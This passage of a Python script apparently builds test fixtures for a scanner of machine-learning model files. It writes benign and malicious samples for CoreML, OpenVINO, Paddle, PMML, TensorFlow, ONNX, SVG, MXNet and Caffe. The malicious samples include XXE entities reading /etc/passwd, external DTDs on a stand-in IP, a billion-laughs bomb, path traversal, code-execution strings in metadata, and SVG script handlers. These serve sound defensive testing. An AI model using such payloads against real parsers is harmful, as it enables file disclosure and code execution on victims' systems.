    add("coreml/bad-blob_path.mlmodel", spec.replace(b"@model_path/weights/weight.bin", b"/../../../../../../etc/passwd\0"))

    def edited(name, change):
        made = Model_pb2.Model()
        made.ParseFromString(network)
        change(made)
        add(f"coreml/{name}.mlmodel", made.SerializeToString())

    def custom_layer(made):
        made.neuralNetwork.layers[0].custom.className = "RunShell"

    def custom_model(made):
        made.customModel.className = "RunShell"

    def linked(path):
        def change(made):
            made.linkedModel.linkedModelFile.linkedModelFileName.defaultValue = path
        return change

    def metadata(made):
        made.description.metadata.userDefined["x"] = "{{ ''.__class__.__mro__ }}" + "import os; os.system('true')"

    edited("bad-custom_layer", custom_layer)
    edited("bad-custom_model", custom_model)
    edited("bad-linked_up", linked("../../other.mlmodelc"))
    edited("good-linked", linked("other.mlmodelc"))
    edited("bad-metadata", metadata)
    add("coreml/bad-unknown_field.mlmodel", network + delimited(9000, PICKLE * 3))


def openvino():
    import numpy as np, openvino as ov
    from openvino import opset13 as ops

    x = ops.parameter([1, 4], np.float32, name="x")
    made = ov.Model([ops.relu(ops.matmul(x, ops.constant(np.eye(4, dtype=np.float32)), False, False))], [x], "m")
    with tempfile.TemporaryDirectory() as folder:
        ov.save_model(made, f"{folder}/m.xml", compress_to_fp16=False)
        xml = pathlib.Path(folder, "m.xml").read_text()
    add("openvino/good-model.xml", xml)
    head, tail = xml.split("?>", 1)
    head += "?>"
    add("openvino/bad-xxe.xml", head + '<!DOCTYPE net [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + tail.replace('name="m"', 'name="&x;"'))
    add("openvino/bad-doctype.xml", head + '<!DOCTYPE net SYSTEM "http://198.51.100.7/net.dtd">' + tail)
    add("openvino/bad-offset.xml", xml.replace('offset="0"', 'offset="99999999999999999999"'))
    add("openvino/bad-size.xml", xml.replace('size="64"', 'size="6400000"'))
    add("openvino/bad-extension_layer.xml", xml.replace('version="opset1"', 'version="extension"', 2))
    add("openvino/bad-plugin_attribute.xml", xml.replace("<layers>", '<extensions><library path="../libevil.so" /></extensions><layers>'))
    add("openvino/bad-plugins.xml", '<ie><plugins><plugin name="CPU" location="../../tmp/evil.so"></plugin></plugins></ie>')
    add("openvino/bad-custom_kernel.xml", '<CustomLayer name="X" type="SimpleGPU" version="1"><Kernel entry="f"><Source filename="../f.cl"/></Kernel></CustomLayer>')
    add("openvino/bad-utf16.xml", MADE["openvino/bad-xxe.xml"].decode().replace("utf-8", "utf-16").encode("utf-16"))


def paddle():
    from paddle.base.proto import framework_pb2 as proto

    def program(*operators):
        made = proto.ProgramDesc()
        block = made.blocks.add(idx=0, parent_idx=-1)
        variable = block.vars.add(name="x", persistable=False)
        variable.type.type = 7
        variable.type.dense_tensor.tensor.data_type = 5
        variable.type.dense_tensor.tensor.dims.extend([-1, 4])
        for name, attributes in (("feed", {}), *operators, ("fetch", {})):
            operator = block.ops.add(type=name)
            operator.inputs.add(parameter="X", arguments=["x"])
            operator.outputs.add(parameter="Out", arguments=["x"])
            for key, text in attributes.items():
                kind = 2 if isinstance(text, str) else 0
                operator.attrs.add(name=key, type=kind, **({"s": text} if kind else {"i": text}))
        made.version.version = 0
        return made.SerializeToString()

    add("paddle/good-program.pdmodel", program(("mul", {}), ("elementwise_add", {"axis": 1}), ("softmax", {})))
    for name, operator in {
        "py_func": ("py_func", {"forward_callable_id": 0}), "load": ("load", {"file_path": "/etc/passwd"}), "load_combine": ("load_combine", {"file_path": "../../x"}),
        "save": ("save", {"file_path": "/root/.bashrc"}), "save_combine": ("save_combine", {"file_path": "x"}), "read_file": ("read_file", {"filename": "/etc/passwd"}),
        "listen": ("listen_and_serv", {"endpoint": "0.0.0.0:1"}), "engine": ("tensorrt_engine", {"engine_key": "x"}), "custom": ("my_private_op", {}),
    }.items():
        add(f"paddle/bad-{name}.pdmodel", program(operator))
    add("paddle/bad-unknown_field.pdmodel", program(("relu", {})) + delimited(99, PICKLE * 3))
    tensor = struct.pack("<IQIi", 0, 0, 0, 4) + b"\x08\x05\x10\x04" + struct.pack("<4f", 1, 2, 3, 4)
    add("paddle/good-two.pdiparams", tensor * 2)
    add("paddle/bad-appended.pdiparams", tensor * 2 + PICKLE)
    add("paddle/bad-dims.pdiparams", tensor + struct.pack("<IQIi", 0, 0, 0, 8) + b"\x08\x05\x10\xff\xff\xff\xff\x7f" + b"\0" * 16)
    program = {"base_code": {"magic": "pir", "trainable": True, "version": 4}, "program": {"regions": [{"#": "region_0", "blocks": [{"#": "block_0", "args": [], "ops": [
        {"#": "1.OP", "A": [], "I": [], "O": [{"%": 1}]}]}]}]}}
    import json
    add("paddle/good-program.json", json.dumps(program).replace("OP", "matmul"))
    for name in ["py_func", "save_combine", "load_combine"]:
        add(f"paddle/bad-{name}.json", json.dumps(program).replace("OP", name))


def sentencepiece():
    import sentencepiece

    model = io.BytesIO()
    text = (f"the quick brown fox {i} jumps over the lazy dog {i * 7}" for i in range(300))
    sentencepiece.SentencePieceTrainer.train(sentence_iterator=text, model_writer=model, vocab_size=60, normalization_rule_name="identity", minloglevel=2)
    add("sentencepiece/good-tokenizer.model", model.getvalue())


def written():
    """What needs no library."""
    pmml = """<?xml version="1.0" encoding="UTF-8"?>
%s<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://www.dmg.org/PMML-4_4 http://www.dmg.org/pmml/v4-4/pmml-4-4.xsd">
  <Header copyright="none" description="a line"><Extension name="tool" value="x">%s</Extension><Application name="JPMML-SkLearn" version="1.7"/><Timestamp>2026-01-01</Timestamp></Header>
  <DataDictionary numberOfFields="2"><DataField name="x" optype="continuous" dataType="double"/><DataField name="y" optype="continuous" dataType="double"/></DataDictionary>
  <TransformationDictionary><DerivedField name="z" optype="continuous" dataType="double"><Apply function="%s"><FieldRef field="x"/><Constant dataType="double">2.0</Constant></Apply></DerivedField></TransformationDictionary>
  <RegressionModel functionName="regression" modelName="m"><MiningSchema><MiningField name="x"/><MiningField name="y" usageType="target"/></MiningSchema>
  <RegressionTable intercept="1.5"><NumericPredictor name="x" coefficient="2.5"/>%s</RegressionTable></RegressionModel>
</PMML>
"""
    def make(name, doctype="", extension="plain text", function="*", inside=""):
        add(f"pmml/{name}.pmml", pmml % (doctype, extension, function, inside))

    make("good-regression")
    make("good-function", function="x-mod")
    laughs = "<!DOCTYPE lolz [<!ENTITY a \"aaaaaaaaaa\">" + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>"
    make("bad-laughs", laughs, "&j;")
    make("bad-xxe", '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;")
    make("bad-xxe_parameter", '<!DOCTYPE PMML [<!ENTITY % x PUBLIC "a" "http://198.51.100.7/x.dtd"> %x;]>')
    make("bad-doctype", '<!DOCTYPE PMML SYSTEM "http://198.51.100.7/x.dtd">')
    make("bad-stylesheet", '<?xml-stylesheet type="text/xsl" href="http://198.51.100.7/x.xsl"?>')
    make("bad-script", extension="<script>java.lang.Runtime.getRuntime().exec('true')</script>")
    make("bad-extension_value", inside='<Extension name="code" value="__import__(\'os\').system(\'true\')"/>')
    make("bad-class_function", function="com.example.Evil")
    make("bad-include", inside='<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')
    add("pmml/bad-comment_in_doctype.pmml", (pmml % ('<!DOCTYPE PMML [<!-- > ]> --><!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;", "*", "")))
    latin = pmml % ('<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "caf\u00e9 &x;", "*", "")
    add("pmml/bad-latin_1.pmml", latin.replace("UTF-8", "ISO-8859-1").encode("latin-1"))
    add("pmml/bad-utf_7.pmml", (pmml % ("", "x", "*", "")).replace("UTF-8", "UTF-7"))
    make("good-interval", extension="cut interval(0,1]")
    add("coreml/bad-model.mil", 'program(1.0) { func main() { tensor<fp32, [4]> w = const()[val = tensor<fp32, [4]>(BLOBFILE(path = tensor<string, []>("/etc/passwd"), offset = tensor<uint64, []>(64)))]; } }\n')
    add("coreml/good-model.mil", 'program(1.0) { func main() { tensor<fp32, [4]> w = const()[val = tensor<fp32, [4]>(BLOBFILE(path = tensor<string, []>("@model_path/weights/weight.bin"), offset = tensor<uint64, []>(64)))]; } }\n')
    for operator in ("ReadFile", "MergeV2Checkpoints", "SaveV2", "LoadLibrary"):
        graph = delimited(1, delimited(2, operator.encode()))
        add(f"tensorflow/bad-bare_{operator}.pb", field(1, 0, b"\1") + delimited(2, delimited(2, graph)))
    def saved(*nodes):
        graph = b"".join(delimited(1, node) for node in nodes)
        return field(1, 0, b"\1") + delimited(2, delimited(2, graph))

    def placeholder(kind):
        return delimited(1, b"x") + delimited(2, b"Placeholder") + delimited(5, delimited(1, b"dtype") + delimited(2, field(6, 0, bytes([kind]))))

    def fed(operator):
        return delimited(1, b"n") + delimited(2, operator.encode()) + delimited(3, b"x")

    # A name cannot be fed where numbers are: no loader takes these.
    for operator in ("TFRecordDataset", "RestoreV2", "WriteSummary"):
        add(f"tensorflow/bad-number_{operator}.pb", saved(placeholder(1), fed(operator)))
        add(f"tensorflow/good-fed_{operator}.pb", saved(placeholder(20 if operator == "WriteSummary" else 7), fed(operator)))
    for operator in ("TFRecordReaderV2", "DebugIdentityV3", "GeneratorDataset", "ImmutableConst"):
        add(f"tensorflow/bad-bare_{operator}.pb", saved(placeholder(1), fed(operator)))
    add("tensorflow/bad-trailing.pb", saved(placeholder(1), fed("Relu")) + PICKLE)
    nested = delimited(1, delimited(1, b"x") + delimited(2, b"y") + delimited(4, b"Relu"))
    for _ in range(60):
        nested = delimited(1, delimited(1, b"x") + delimited(2, b"y") + delimited(4, b"If") + delimited(5, delimited(1, b"then_branch") + delimited(6, nested)))
    add("onnx/bad-nested.onnx", field(1, 0, b"\x08") + delimited(7, nested) + delimited(8, field(2, 0, b"\x11")))
    relu = delimited(1, delimited(1, b"x") + delimited(2, b"y") + delimited(4, b"Relu"))
    for name, value in (("bad-metadata_code", b"__import__('os').system('true')"), ("good-metadata_prose", b"trained by us (see the paper); run it with care")):
        add(f"onnx/{name}.onnx", field(1, 0, b"\x08") + delimited(7, relu) + delimited(8, field(2, 0, b"\x11")) + delimited(14, delimited(1, b"note") + delimited(2, value)))
    picture = '<svg xmlns="http://www.w3.org/2000/svg"%s>%s<circle r="4"/></svg>\n'
    add("xml/good-picture.svg", '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' + picture % ("", "<style>circle{}</style>"))
    add("xml/bad-script.svg", picture % ("", "<script>fetch('x')</script>"))
    add("xml/bad-handler.svg", picture % (' onload="fetch(1)"', ""))
    add("xml/bad-link.svg", picture % ("", '<a href=" javascript:fetch(1)">x</a>'))
    add("coreml/bad-bare_custom.mlmodel", field(1, 0, b"\4") + delimited(555, delimited(10, b"RunShell")))
    add("onnx/bad-bare_python.onnx", delimited(7, delimited(1, delimited(1, b"x") + delimited(2, b"y") + delimited(4, b"PyOp"))))
    add("openvino/bad-bare_extension.xml", '<net><extensions><extension name="x" library="/tmp/evil.so.1.so"/></extensions><layers/></net>')
    chance = random.Random(1)
    for name, form, count in ("float16", "<e", 512), ("float32", "<f", 64), ("float64", "<d", 64):
        add(f"numbers/good-{name}.bin", b"".join(struct.pack(form, chance.gauss(0, 0.05)) for _ in range(count)))
    symbol = '{"nodes": [{"op": "null", "name": "data", "inputs": []}, {"op": "%s", "name": "n", "attrs": {"op_type": "x"}, "inputs": [[0, 0, 0]]}], "arg_nodes": [0], "node_row_ptr": [0, 1, 2], "heads": [[1, 0, 0]]}'
    add("mxnet/good-symbol.json", symbol % "Activation")
    add("mxnet/bad-custom-symbol.json", symbol % "Custom")
    add("mxnet/bad-native-symbol.json", symbol % "_Native")
    arrays = struct.pack("<QQQIIIQiiI2f", 0x112, 0, 1, 0xF993FAC9, 0, 1, 2, 1, 0, 0, 1.0, 2.0) + struct.pack("<QQ", 1, 5) + b"arg:w"
    add("mxnet/good-arrays.params", arrays)
    add("mxnet/bad-appended.params", arrays + PICKLE)
    add("mxnet/bad-shape.params", arrays.replace(struct.pack("<Q", 2), struct.pack("<Q", 1 << 40), 1))
    add("xml/good-plain.xml", '<?xml version="1.0"?>\n<note><to>you</to><body a="1">text &amp; more</body></note>\n')
    add("xml/good-plist.xml", '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict/></plist>\n')
    add("xml/good-page.html", "<!DOCTYPE html>\n<html><head><meta charset=utf-8><title>x</title></head><body><p>one<br>two</body></html>\n")
    add("xml/bad-entity.xml", '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "http://198.51.100.7/x">]><a>&x;</a>')
    add("tensorrt/bad-engine.engine", b"ptrt" + bytes(range(256)))
    add("tensorrt/bad-engine_plan.plan", b"ftrt" + bytes(range(256)))
    add("caffe/bad-python.prototxt", 'name: "n"\nlayer {\n  name: "p"\n  type: "Python"\n  python_param { module: "os" layer: "X" }\n}\n')
    layer = delimited(1, b"p") + delimited(2, b"Python") + delimited(130, delimited(1, b"os") + delimited(2, b"X"))
    add("caffe/bad-python.caffemodel", delimited(1, b"n") + delimited(100, layer))
    add("caffe/good-relu.caffemodel", delimited(1, b"n") + delimited(100, delimited(1, b"r") + delimited(2, b"ReLU") + delimited(3, b"x") + delimited(4, b"y")))


MAKERS = {make.__name__: make for make in (tensorflow, onnx_models, coreml, openvino, paddle, sentencepiece, written)}


def main():
    if len(sys.argv) < 2:
        # These libraries do not bear each other's company in one process.
        for name in MAKERS:
            subprocess.run([sys.executable, __file__, name], check=False)
        return
    try:
        MAKERS[sys.argv[1]]()
    except ImportError as error:
        print(f"{sys.argv[1]}: {error}", file=sys.stderr)
    for name, data in sorted(MADE.items()):
        if len(data) > BYTES_MAX:
            print(f"{name}: {len(data)} bytes, left out", file=sys.stderr)
            continue
        path = HERE / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    print(f"{sys.argv[1]}: {len(MADE)} samples, {sum(map(len, MADE.values()))} bytes")


if __name__ == "__main__":
    main()
